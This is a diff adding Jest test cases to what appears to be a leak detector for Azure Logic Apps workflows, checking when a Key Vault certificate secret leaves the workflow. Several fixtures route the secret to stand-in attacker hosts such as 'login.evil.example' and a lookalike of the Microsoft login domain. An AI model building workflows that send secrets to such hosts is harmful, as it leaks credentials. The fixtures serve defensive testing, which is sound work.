@@ -218,6 +218,131 @@ test.each<[string, object, object]>([
   expect(ways(workflow({ Get: getSecret, ...actions }, members), 'secret-leaves')).toHaveLength(1);
 });
 
+const signsIn = (more: object = {}) => ({
+  type: 'Http',
+  inputs: {
+    method: 'GET',
+    uri: 'https://a.example/x',
+    authentication: {
+      type: 'ActiveDirectoryOAuth',
+      tenant: 't',
+      clientId: 'c',
+      audience: 'a',
+      pfx: value,
+      password: '',
+      ...more,
+    },
+  },
+});
+const call = (inputs: object) => ({ type: 'Http', inputs: { method: 'GET', uri: 'https://a.example/x', ...inputs } });
+const template = value.replace('@', '@{').concat('}');
+const byHttp = { type: 'Http', inputs: { method: 'GET', uri: 'https://kv-a.vault.azure.net/secrets/key?api-version=7.4' } };
+
+// Each beside an action that signs in with it, at the same host: as any other secret it might go there.
+test.each<[string, object]>([
+  ['in a header', { A: call({ headers: { 'x-key': value } }) }],
+  ['in a cookie', { A: call({ cookie: template }) }],
+  ['in a part of a header', { A: call({ headers: { 'x-key': `Key ${template}` } }) }],
+  ['in the body', { A: call({ method: 'POST', body: { file: value } }) }],
+  [
+    'to where tokens are got',
+    { A: call({ uri: 'https://login.microsoftonline.com/t/oauth2/token', body: `client_secret=${template}` }) },
+  ],
+  ['as the password of Basic', { A: call({ authentication: { type: 'Basic', username: 'a', password: value } }) }],
+  ['as the user of Basic', { A: call({ authentication: { type: 'basic', username: value, password: '' } }) }],
+  ['as the value of Raw', { A: call({ authentication: { type: 'Raw', value: `Bearer ${template}` } }) }],
+  ['as the secret of a sign-in', { A: signsIn({ pfx: undefined, secret: value }) }],
+  ['in the authority', { A: signsIn({ pfx: '', authority: `https://login.microsoftonline.com/${template}` }) }],
+  ['to a foreign authority', { A: signsIn({ authority: 'https://login.evil.example' }) }],
+  [
+    'to a foreign authority that looks like one',
+    { A: signsIn({ authority: 'https://login.microsoftonline.com.evil.example/' }) },
+  ],
+  [
+    'in a webhook',
+    { A: { type: 'HttpWebhook', inputs: { subscribe: call({ headers: { 'x-key': value } }).inputs, unsubscribe: {} } } },
+  ],
+  [
+    'in the sign-in of a webhook',
+    { A: { type: 'HttpWebhook', inputs: { subscribe: signsIn({ authority: 'https://evil.example' }).inputs, unsubscribe: {} } } },
+  ],
+  [
+    'through the result of a scope',
+    {
+      S: { type: 'Scope', actions: { In: { type: 'Compose', inputs: value } } },
+      A: { ...call({ headers: { 'x-key': "@{first(result('S'))?['outputs']}" } }), ...after('S') },
+    },
+  ],
+  [
+    'through the result of the scope that it is read in',
+    {
+      S: { type: 'Scope', actions: { Second: getSecret } },
+      A: { ...call({ headers: { 'x-key': "@{result('S')[0]?['outputs']?['body']?['value']}" } }), ...after('S') },
+    },
+  ],
+  ['through a second Get secret', { Second: getSecret, A: call({ headers: { 'x-key': "@body('Second')?['value']" } }) }],
+  [
+    'through a second Get secret with another case and place',
+    {
+      Second: {
+        ...getSecret,
+        inputs: {
+          host: { connection: { name: "@parameters('$connections')['keyvault']['connectionId']" } },
+          method: 'get',
+          path: '/secrets/KEY/value',
+        },
+      },
+      First: {
+        ...getSecret,
+        inputs: {
+          ...getSecret.inputs,
+          host: { connection: { name: "@parameters('$connections')['keyvault']['connectionId']" } },
+        },
+      },
+      Other: signsIn({ pfx: "@body('First')?['value']" }),
+      A: call({ headers: { 'x-key': "@body('Second')?['value']" } }),
+    },
+  ],
+  [
+    'through the data plane of the vault',
+    {
+      First: byHttp,
+      Second: { ...byHttp, inputs: { ...byHttp.inputs, uri: 'https://kv-a.vault.azure.net/secrets/key/?api-version=7.5' } },
+      Other: signsIn({ pfx: "@body('First')?['value']" }),
+      A: call({ headers: { 'x-key': "@body('Second')?['value']" } }),
+    },
+  ],
+])('a certificate leaves %s', (_, actions) => {
+  const found = ways(workflow({ Get: getSecret, Sign: signsIn(), ...actions }), 'secret-leaves');
+  expect(found.filter((way) => / > \/A\//.test(way))).toHaveLength(1);
+});
+
+test.each<[string, object]>([
+  ['signs in', { A: signsIn() }],
+  ['signs in at another cloud', { A: signsIn({ authority: 'https://login.microsoftonline.us/' }) }],
+  ['signs in at an older name', { A: signsIn({ authority: 'https://login.windows.net/' }) }],
+  ['signs in at a customer tenant', { A: signsIn({ authority: 'https://contoso.ciamlogin.com' }) }],
+  ['signs in where a parameter says', { A: signsIn({ authority: "@parameters('authority')" }) }],
+  ['signs in where somebody is yet to say', { A: signsIn({ authority: '<authority>' }) }],
+  ['is shown to the host itself', { A: signsIn({ type: 'ClientCertificate', authority: 'https://a.example' }) }],
+  ['opens with it', { A: signsIn({ password: value }) }],
+  [
+    'is put into a vault',
+    { A: call({ method: 'POST', uri: 'https://kv.vault.azure.net/certificates/x/import', body: { value } }) },
+  ],
+  ['is put into a web app', { A: call({ method: 'PUT', uri: 'https://management.azure.com/x', body: { pfxBlob: value } }) }],
+  ['goes where nobody says', { A: call({ uri: "@parameters('host')", body: value }) }],
+  [
+    'is another one',
+    {
+      Second: { ...getSecret, inputs: { ...getSecret.inputs, path: '/secrets/other/value' } },
+      A: call({ headers: { 'x-key': "@body('Second')?['value']" } }),
+    },
+  ],
+])('a certificate stays where it %s', (_, actions) => {
+  expect(ways(workflow({ Get: getSecret, Sign: signsIn(), ...actions }), 'secret-leaves')).toEqual([]);
+});
+
 test.each<[string, object]>([
   ['in a header', { A: { type: 'Http', inputs: { method: 'GET', uri: 'https://a.example', headers: { 'x-key': value } } } }],
   ['in the body of a call', { A: show({ key: value }) }],
